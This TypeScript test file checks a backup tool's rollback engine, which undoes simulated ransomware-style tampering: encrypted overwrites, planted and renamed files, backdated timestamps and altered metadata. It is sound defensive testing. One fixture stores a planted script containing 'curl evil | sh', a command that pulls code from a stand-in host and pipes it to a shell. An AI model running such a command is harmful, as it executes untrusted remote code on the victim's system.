// rollback's decision per key (pure), and the engine on an in-memory bucket with a controlled
// clock: undelete, upload, delete, keep, excluded keys, and a rerun that finds nothing to do.
// (Server-side copies need S3: test/integration/rollback.test.ts.)
import { renameSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Catalog } from '../../src/catalog/catalog.js';
import { sqlite } from '../../src/catalog/connection.js';
import { CatalogQueries } from '../../src/catalog/queries.js';
import { backupGroup } from '../../src/engine/backup.js';
import type { EngineEvent } from '../../src/engine/events.js';
import { decideKey, type PlanContext } from '../../src/engine/rollback-plan.js';
import { rollback } from '../../src/engine/rollback.js';
import { ExitCode } from '../../src/errors.js';
import type { OpenedSource } from '../../src/engine/sources.js';
import type { Group } from '../../src/policy/types.js';
import type { Repository } from '../../src/repository/repository.js';
import { FsStore } from '../../src/storage/fs-store.js';
import { MemStore } from '../../src/storage/mem-store.js';
import { getBytes, type ObjectEntry } from '../../src/storage/types.js';
import { initRepo, keysUnder, openCatalog, tempDir, testPolicy } from '../helpers/fixtures.js';

const T = Date.parse('2026-11-20T10:00:00Z');
const MD5 = (c: string): string => c.repeat(32);

function entry(versionId: string | null, opts: Partial<ObjectEntry> = {}): ObjectEntry {
  return { kind: 'object', key: 'k', size: 10, etag: MD5('a'), lastModified: new Date(T + 1000), versionId, isLatest: false, isDeleteMarker: false, ...opts };
}
const marker = (versionId: string | null): ObjectEntry => entry(versionId, { isDeleteMarker: true, size: 0, etag: '' });

describe('decideKey', () => {
  const ctx: PlanContext = { canCopy: true, keepNew: false, cutTime: T };
  const wanted = { key: 'k', versionId: 'v1', size: 10, etag: MD5('a') };

  it('leaves the wanted version alone, by version id or by size and content ETag', () => {
    expect(decideKey('k', wanted, [entry('v1')], ctx)?.action).toBe('unchanged');
    expect(decideKey('k', wanted, [entry('v9'), entry('v1')], ctx)?.action).toBe('unchanged');
    expect(decideKey('k', { ...wanted, etag: 'not-a-content-etag' }, [entry('v9', { etag: 'not-a-content-etag' }), entry('v1')], ctx)?.action).toBe('copy');
    // A local file's change token (size and mtime) is what backup skips unchanged files by: unchanged here too.
    const file = { key: 'k', versionId: null, size: 10, etag: '10-1763632800123456789' };
    const unversioned: PlanContext = { ...ctx, canCopy: false };
    expect(decideKey('k', file, [entry(null, { etag: '10-1763632800123456789' })], unversioned)?.action).toBe('unchanged');
    expect(decideKey('k', file, [entry(null, { etag: '10-1763632899000000000' })], unversioned)?.action).toBe('upload');
  });

  it('undeletes only when the markers sit directly on the wanted version (a suspended bucket\'s null marker too)', () => {
    expect(decideKey('k', wanted, [marker('m2'), marker(null), entry('v1')], ctx)).toEqual({ key: 'k', action: 'undelete', size: 10, markers: ['m2', null] });
    expect(decideKey('k', wanted, [marker('m1'), entry('v2', { etag: MD5('b') }), entry('v1')], ctx)).toEqual({ key: 'k', action: 'copy', size: 10, versionId: 'v1' });
  });

  it('copies a version still listed, uploads one that is gone or when nothing can be copied', () => {
    expect(decideKey('k', wanted, [entry('v2', { etag: MD5('b') }), entry('v1')], ctx)?.action).toBe('copy');
    expect(decideKey('k', wanted, [entry('v2', { etag: MD5('b') })], ctx)?.action).toBe('upload');
    expect(decideKey('k', wanted, [], ctx)?.action).toBe('upload');
    expect(decideKey('k', wanted, [entry('v2', { etag: MD5('b') }), entry('v1')], { ...ctx, canCopy: false })?.action).toBe('upload');
    expect(decideKey('k', { ...wanted, versionId: null }, [entry(null, { etag: MD5('b') })], ctx)?.action).toBe('upload');
  });

  it('deletes a key written after the instant, keeps it with --keep-new or when it is older than the instant', () => {
    expect(decideKey('k', undefined, [entry('v5')], ctx)).toEqual({ key: 'k', action: 'delete', size: 10 });
    expect(decideKey('k', undefined, [entry('v5')], { ...ctx, keepNew: true })).toMatchObject({ action: 'keep', reason: 'keep-new' });
    expect(decideKey('k', undefined, [entry('v5', { lastModified: new Date(T - 1) })], ctx)).toMatchObject({ action: 'keep', reason: 'not-in-backup' });
    expect(decideKey('k', undefined, [marker('m'), entry('v5')], ctx)).toBeNull();
    expect(decideKey('k', undefined, [], ctx)).toBeNull();
  });

  it('deletes a file older than the instant that a run after it recorded (moved into place, keeping its time); an S3 object by its time alone', () => {
    const old = { lastModified: new Date(T - 60_000) };
    const recorded: PlanContext = { ...ctx, recordedAfterCut: () => true };
    // A file's change token: a run after the instant saw this very file, so it appeared after it (and the backup holds it).
    expect(decideKey('k', undefined, [entry(null, { ...old, etag: '10-1763632740000000000' })], recorded)).toEqual({ key: 'k', action: 'delete', size: 10 });
    expect(decideKey('k', undefined, [entry(null, { ...old, etag: '10-1763632740000000000' })], ctx)).toMatchObject({ action: 'keep', reason: 'not-in-backup' });
    // An S3 object's time is the server's: older than the instant, it existed then.
    expect(decideKey('k', undefined, [entry('v5', old)], recorded)).toMatchObject({ action: 'keep', reason: 'not-in-backup' });
  });
});

describe('rollback engine on an in-memory bucket', () => {
  let dir: ReturnType<typeof tempDir>;
  let repo: Repository;
  let catalog: Catalog;
  let clock: number;
  let bucket: MemStore;
  const group: Group = { name: 'g', sources: [] };
  const isExcluded = (key: string): boolean => key.endsWith('.tmp');

  beforeEach(async () => {
    dir = tempDir('rollback-unit');
    repo = await initRepo(new FsStore({ root: join(dir.path, 'repo'), fsync: false }));
    catalog = openCatalog(dir.path, repo);
    clock = T;
    bucket = new MemStore({ versioning: true, now: () => new Date((clock += 1000)), name: 'lake' });
  });
  afterEach(() => {
    catalog.close();
    dir.cleanup();
  });

  const source = (): OpenedSource => ({ bucket: 'lake', objectStore: bucket, prefixes: [''], isExcluded });
  const run = (opts: { dryRun?: boolean; keepNew?: boolean; prefixes?: string[]; cutTime: number; events?: EngineEvent[] }) =>
    rollback({
      repo,
      catalog,
      bucket: 'lake',
      store: bucket,
      scope: { prefixes: opts.prefixes ?? [''] },
      cut: { runSeq: 1 },
      cutTime: opts.cutTime,
      isExcluded,
      keepNew: opts.keepNew ?? false,
      dryRun: opts.dryRun ?? false,
      concurrency: 4,
      events: (e) => opts.events?.push(e),
    });

  it('undeletes, uploads what no version holds any more, deletes what is new, and converges', async () => {
    await bucket.put('a/kept.txt', Buffer.from('kept'));
    await bucket.put('a/deleted.txt', Buffer.from('deleted later'), { contentType: 'text/plain', metadata: { m: '1' }, tags: { t: 'x' } });
    await bucket.put('a/overwritten.txt', Buffer.from('original'), { contentType: 'text/csv', tags: { t: 'y' } });
    await bucket.put('a/scratch.tmp', Buffer.from('excluded'));
    const b = await backupGroup({ repo, catalog, policy: testPolicy(repo.location, [group]), group, sources: [source()] });
    expect(b.status).toBe('complete');
    const cutTime = clock;

    await bucket.delete('a/deleted.txt');
    await bucket.put('a/overwritten.txt', Buffer.from('poison'));
    // Its wanted version is still listed, but a MemStore cannot copy server-side: an upload.
    await bucket.put('a/new.txt', Buffer.from('ransom note'));
    await bucket.put('a/scratch.tmp', Buffer.from('still excluded'));

    const events: EngineEvent[] = [];
    const dry = await run({ dryRun: true, cutTime, events });
    expect(dry.actions).toMatchObject({ undelete: { keys: 1 }, upload: { keys: 1, bytes: 8 }, delete: { keys: 1 }, unchanged: { keys: 1 }, copy: { keys: 0 } });
    expect(events.filter((e) => e.type === 'rollback-action').map((e) => (e.type === 'rollback-action' ? `${e.key} ${e.action}` : ''))).toEqual([
      'a/deleted.txt undelete',
      'a/kept.txt unchanged',
      'a/new.txt delete',
      'a/overwritten.txt upload',
    ]);
    expect(dry.requests).toMatchObject({ delete: 0, put: 0, copy: 0 });

    const done = await run({ cutTime });
    expect(done.failed).toBe(0);
    expect(done.actions).toMatchObject({ undelete: { keys: 1 }, upload: { keys: 1, bytes: 8 }, delete: { keys: 1 }, unchanged: { keys: 1 } });
    expect(done.requests).toMatchObject({ put: 1, copy: 0, delete: 2 });
    expect((await getBytes(bucket, 'a/deleted.txt')).toString()).toBe('deleted later');
    expect(await bucket.getTags('a/deleted.txt')).toEqual({ t: 'x' });
    expect((await getBytes(bucket, 'a/overwritten.txt')).toString()).toBe('original');
    expect((await bucket.head('a/overwritten.txt')).contentType).toBe('text/csv');
    expect(await bucket.getTags('a/overwritten.txt')).toEqual({ t: 'y' });
    await expect(bucket.head('a/new.txt')).rejects.toMatchObject({ code: 'NotFound' });
    expect((await getBytes(bucket, 'a/scratch.tmp')).toString()).toBe('still excluded');

    const again = await run({ cutTime });
    expect(again.actions).toMatchObject({ undelete: { keys: 0 }, upload: { keys: 0 }, delete: { keys: 0 }, unchanged: { keys: 3 } });
  });

  it('brings back the metadata of an object rewritten with the same bytes (its ETag unchanged)', async () => {
    const meta = { contentType: 'text/csv', metadata: { owner: 'finance' } };
    for (const k of ['a/enc.csv', 'a/owner.csv', 'a/same.csv']) await bucket.put(k, Buffer.from(`rows of ${k}`), meta);
    expect((await backupGroup({ repo, catalog, policy: testPolicy(repo.location, [group]), group, sources: [source()] })).status).toBe('complete');
    const cutTime = clock;
    await bucket.put('a/enc.csv', Buffer.from('rows of a/enc.csv'), { ...meta, contentEncoding: 'gzip' });
    await bucket.put('a/owner.csv', Buffer.from('rows of a/owner.csv'), { ...meta, metadata: { owner: 'attacker' } });
    // Rewritten with everything the same: nothing to undo.
    await bucket.put('a/same.csv', Buffer.from('rows of a/same.csv'), meta);
    const plan = async (): Promise<string[]> => {
      const events: EngineEvent[] = [];
      await run({ dryRun: true, cutTime, events });
      return events.flatMap((e) => (e.type === 'rollback-action' ? [`${e.key} ${e.action}`] : []));
    };
    // A MemStore copies nothing server-side: uploads, with the recorded metadata.
    expect(await plan()).toEqual(['a/enc.csv upload', 'a/owner.csv upload', 'a/same.csv unchanged']);
    expect(await run({ cutTime })).toMatchObject({ failed: 0, actions: { upload: { keys: 2 }, unchanged: { keys: 1 } } });
    expect((await bucket.head('a/enc.csv')).contentEncoding).toBeUndefined();
    expect((await bucket.head('a/owner.csv')).metadata).toEqual({ owner: 'finance' });
    expect(await plan()).toEqual(['a/enc.csv unchanged', 'a/owner.csv unchanged', 'a/same.csv unchanged']);
  });

  it('keeps new keys with --keep-new, and a live key older than the instant that the backup never saw', async () => {
    await bucket.put('a/x.txt', Buffer.from('x'));
    await backupGroup({ repo, catalog, policy: testPolicy(repo.location, [group]), group, sources: [source()] });
    const cutTime = clock;
    await bucket.put('b/new.txt', Buffer.from('new'));
    expect((await run({ keepNew: true, cutTime })).actions).toMatchObject({ keep: { keys: 1 }, delete: { keys: 0 } });
    // As if the instant were later than the key's write: the backup never recorded it.
    expect((await run({ cutTime: clock + 60_000 })).actions).toMatchObject({ keep: { keys: 1 }, delete: { keys: 0 } });
    // --prefix: nothing outside it is touched.
    expect((await run({ cutTime, prefixes: ['a/'] })).actions).toMatchObject({ delete: { keys: 0 }, unchanged: { keys: 1 } });
    expect((await getBytes(bucket, 'b/new.txt')).toString()).toBe('new');
  });
});

describe('rollback of a path: source (a directory)', () => {
  let dir: ReturnType<typeof tempDir>;
  let repo: Repository;
  let catalog: Catalog;
  let lake: FsStore;
  const group: Group = { name: 'g', sources: [] };

  beforeEach(async () => {
    dir = tempDir('rollback-path');
    repo = await initRepo(new FsStore({ root: join(dir.path, 'repo'), fsync: false }));
    catalog = openCatalog(dir.path, repo);
    lake = new FsStore({ root: join(dir.path, 'lake'), fsync: false });
  });
  afterEach(() => {
    catalog.close();
    dir.cleanup();
  });

  const source = (): OpenedSource => ({ bucket: 'lake', objectStore: lake, prefixes: [''], isExcluded: () => false });
  const backup = () => backupGroup({ repo, catalog, policy: testPolicy(repo.location, [group]), group, sources: [source()] });
  const run = (opts: { dryRun?: boolean; cutTime: number; events?: EngineEvent[]; byTime?: true }) =>
    rollback({
      repo,
      catalog,
      bucket: 'lake',
      store: lake,
      scope: { prefixes: [''] },
      cut: opts.byTime ? { time: opts.cutTime } : { runSeq: 1 },
      cutTime: opts.cutTime,
      isExcluded: () => false,
      keepNew: false,
      dryRun: opts.dryRun ?? false,
      concurrency: 4,
      events: (e) => opts.events?.push(e),
    });

  it('interrupted, it says what it left and how to finish; the same command again finishes it', async () => {
    const keys = Array.from({ length: 6 }, (_, i) => `t/p${i}.csv`);
    for (const key of keys) await lake.put(key, Buffer.from(`rows of ${key}`));
    await backup();
    const cutTime = catalog.findRun('1')!.started;
    for (const key of keys) await lake.delete(key);
    const opts = { repo, catalog, bucket: 'lake', scope: { prefixes: [''] }, cut: { runSeq: 1 }, cutTime, isExcluded: () => false, keepNew: false, concurrency: 1 };
    // Stopped (as Ctrl-C stops it) once it has planned a key (a dry run) or written one.
    const dry = new AbortController();
    const events = (e: EngineEvent) => {
      if (e.type === 'rollback-action') dry.abort();
    };
    await expect(rollback({ ...opts, store: lake, dryRun: true, events, signal: dry.signal })).rejects.toMatchObject({
      exitCode: ExitCode.interrupted,
      message: 'rollback interrupted: a dry run, nothing was written',
    });
    const stop = new AbortController();
    const stopping = new Proxy(lake, {
      get(target, prop) {
        const value = Reflect.get(target, prop, target) as unknown;
        if (prop !== 'put' || typeof value !== 'function') return typeof value === 'function' ? value.bind(target) : value;
        return async (...args: unknown[]) => {
          const r: unknown = await (value as (...a: unknown[]) => Promise<unknown>).apply(target, args);
          stop.abort();
          return r;
        };
      },
    });
    await expect(rollback({ ...opts, store: stopping, dryRun: false, events: () => {}, signal: stop.signal })).rejects.toMatchObject({
      exitCode: ExitCode.interrupted,
      message: 'rollback interrupted: the keys it rolled back so far stay so; run the same command again to finish (it plans from the bucket as it is now, and does nothing twice)',
    });
    expect((await keysUnder(lake, '')).length).toBeLessThan(keys.length);
    const done = await rollback({ ...opts, store: lake, dryRun: false, events: () => {} });
    expect(done.failed).toBe(0);
    expect((await keysUnder(lake, '')).sort()).toEqual(keys);
    for (const key of keys) expect((await getBytes(lake, key)).toString()).toBe(`rows of ${key}`);
  });

  it('to a time between runs: a planted file and an overwrite backdated by the attacker are undone', async () => {
    const yesterday = new Date(Date.now() - 86_400_000);
    await lake.put('t/a.parquet', Buffer.from('rows of a'));
    await lake.put('t/b.parquet', Buffer.from('rows of b'));
    expect((await backup()).status).toBe('complete');
    await new Promise((r) => setTimeout(r, 20));
    const before = Date.now(); // the responder's "before the attack", after run 1
    await new Promise((r) => setTimeout(r, 20));
    await lake.put('t/planted.sh', Buffer.from('curl evil | sh'));
    await lake.put('t/a.parquet', Buffer.from('ENCRYPTED'));
    for (const name of ['planted.sh', 'a.parquet']) utimesSync(join(dir.path, 'lake', 't', name), yesterday, yesterday);
    // A file with a time in the future is not hidden from time cuts either.
    await lake.put('t/future.txt', Buffer.from('x'));
    utimesSync(join(dir.path, 'lake', 't', 'future.txt'), new Date('2031-01-01'), new Date('2031-01-01'));
    expect((await backup()).status).toBe('complete');
    const cut = (time: number) => new Map([...new CatalogQueries(catalog).stateAt('lake', '', { time })].map((v) => [v.key, v.size]));
    // As the runs saw it: before the attack, run 1's state; now, run 2's.
    expect([...cut(before).keys()].sort()).toEqual(['t/a.parquet', 't/b.parquet']);
    expect(cut(before).get('t/a.parquet')).toBe('rows of a'.length);
    expect([...cut(Date.now()).keys()].sort()).toEqual(['t/a.parquet', 't/b.parquet', 't/future.txt', 't/planted.sh']);
    const events: EngineEvent[] = [];
    await run({ dryRun: true, cutTime: before, byTime: true, events });
    expect(events.flatMap((e) => (e.type === 'rollback-action' ? [`${e.key} ${e.action}`] : []))).toEqual([
      't/a.parquet upload',
      't/b.parquet unchanged',
      't/future.txt delete',
      't/planted.sh delete',
    ]);
  });

  it('a file changed in place with its size and time put back is uploaded, not left as unchanged', async () => {
    // Large enough to be cut into several blobs: the comparison is blob by blob, as backup cut it.
    const big = Buffer.alloc(3 * 1024 * 1024, 7);
    await lake.put('t/a.parquet', Buffer.from('rows of a'));
    await lake.put('t/big.bin', big);
    await lake.put('t/b.parquet', Buffer.from('rows of b'));
    // Whole seconds: utimes takes seconds as a double, so only such a time can be put back exactly.
    const written = new Date(Math.floor(Date.now() / 1000) * 1000 - 60_000);
    for (const key of ['t/a.parquet', 't/big.bin']) utimesSync(join(dir.path, 'lake', key), written, written);
    expect((await backup()).status).toBe('complete');
    const cutTime = catalog.findRun('1')!.started;
    // Encrypted in place, same size, the modification time set back: backup cannot tell.
    for (const [key, bytes] of [['t/a.parquet', 'ROWS OF A'], ['t/big.bin', Buffer.concat([big.subarray(0, big.length - 1), Buffer.from([8])])]] as const) {
      const file = join(dir.path, 'lake', key);
      writeFileSync(file, bytes);
      utimesSync(file, written, written);
      expect(statSync(file).mtimeMs).toBe(written.getTime());
    }
    expect(await backup()).toMatchObject({ status: 'complete', counters: { objectsUnchanged: 3 } });
    const plan = async (): Promise<string[]> => {
      const events: EngineEvent[] = [];
      await run({ dryRun: true, cutTime, events });
      return events.flatMap((e) => (e.type === 'rollback-action' ? [`${e.key} ${e.action}`] : []));
    };
    expect(await plan()).toEqual(['t/a.parquet upload', 't/b.parquet unchanged', 't/big.bin upload']);
    expect(await run({ cutTime })).toMatchObject({ failed: 0, actions: { upload: { keys: 2 }, unchanged: { keys: 1 } } });
    expect((await getBytes(lake, 't/a.parquet')).toString()).toBe('rows of a');
    expect((await getBytes(lake, 't/big.bin')).equals(big)).toBe(true);
    expect(await plan()).toEqual(['t/a.parquet unchanged', 't/b.parquet unchanged', 't/big.bin unchanged']);
  });

  it('files with times before 1970 and after 2106 come back with them: a rerun plans nothing', async () => {
    const times = { 't/1960.txt': new Date('1960-01-01T00:00:00.123Z'), 't/2400.txt': new Date('2400-01-01T00:00:00.987Z') };
    for (const [key, time] of Object.entries(times)) {
      await lake.put(key, Buffer.from(`rows of ${key}`));
      utimesSync(join(dir.path, 'lake', key), time, time);
    }
    expect((await backup()).status).toBe('complete');
    const cutTime = catalog.findRun('1')!.finished!;
    for (const key of Object.keys(times)) await lake.delete(key);
    expect((await backup()).status).toBe('complete');
    expect((await run({ cutTime })).failed).toBe(0);
    const events: EngineEvent[] = [];
    await run({ dryRun: true, cutTime, events });
    expect(events.flatMap((e) => (e.type === 'rollback-action' ? [`${e.key} ${e.action}`] : []))).toEqual(['t/1960.txt unchanged', 't/2400.txt unchanged']);
    expect(await backup()).toMatchObject({ status: 'complete', counters: { objectsNew: 2, objectsChanged: 0 } });
    expect(await backup()).toMatchObject({ status: 'complete', counters: { objectsNew: 0, objectsChanged: 0, objectsUnchanged: 2 } });
  });

  it('deletes files an attacker renamed (their times kept), and brings the originals back', async () => {
    for (const name of ['a.parquet', 'b.parquet', 'c.parquet']) await lake.put(`t/${name}`, Buffer.from(`rows of ${name}`));
    expect((await backup()).status).toBe('complete');
    const cutTime = catalog.findRun('1')!.started;
    // Renamed in place: a rename keeps a file's modification time, older than the instant.
    for (const name of ['a.parquet', 'b.parquet']) renameSync(join(dir.path, 'lake', 't', name), join(dir.path, 'lake', 't', `${name}.locked`));
    expect((await backup()).status).toBe('complete');
    // Deleted after the last backup: the catalog's newest version of it is still the clean one.
    await lake.delete('t/c.parquet');

    const events: EngineEvent[] = [];
    const dry = await run({ dryRun: true, cutTime, events });
    expect(events.flatMap((e) => (e.type === 'rollback-action' ? [`${e.key} ${e.action}`] : []))).toEqual([
      't/a.parquet upload',
      't/a.parquet.locked delete',
      't/b.parquet upload',
      't/b.parquet.locked delete',
      't/c.parquet upload',
    ]);
    expect(dry.actions).toMatchObject({ keep: { keys: 0 } });
    expect((await run({ cutTime })).failed).toBe(0);
    expect((await keysUnder(lake, '')).sort()).toEqual(['t/a.parquet', 't/b.parquet', 't/c.parquet']);
    expect((await getBytes(lake, 't/a.parquet')).toString()).toBe('rows of a.parquet');
    // Converged: a restored file has its recorded time, so a rerun leaves it alone; the next
    // backup finds c.parquet as the catalog last recorded it (unchanged, not read again) and a
    // and b back (new: the run before saw them gone).
    const events2: EngineEvent[] = [];
    const again = await run({ dryRun: true, cutTime, events: events2 });
    expect(again.actions).toMatchObject({ delete: { keys: 0 }, upload: { keys: 0 } });
    expect(events2.flatMap((e) => (e.type === 'rollback-action' ? [`${e.key} ${e.action}`] : []))).toEqual(['t/a.parquet unchanged', 't/b.parquet unchanged', 't/c.parquet unchanged']);
    expect(await backup()).toMatchObject({ status: 'complete', counters: { objectsChanged: 0, objectsNew: 2, objectsUnchanged: 1 } });
    // a and b are current again: their restored times are older than the deletions run 2 recorded.
    const deleted = sqlite(catalog).prepare('SELECT v.delete_marker FROM objects o JOIN versions v ON v.id = o.latest WHERE o.key = ?').pluck();
    expect(['t/a.parquet', 't/b.parquet', 't/c.parquet'].map((k) => deleted.get(k))).toEqual([0, 0, 0]);
    expect(await backup()).toMatchObject({ status: 'complete', counters: { objectsNew: 0, objectsUnchanged: 3 } });
  });
});
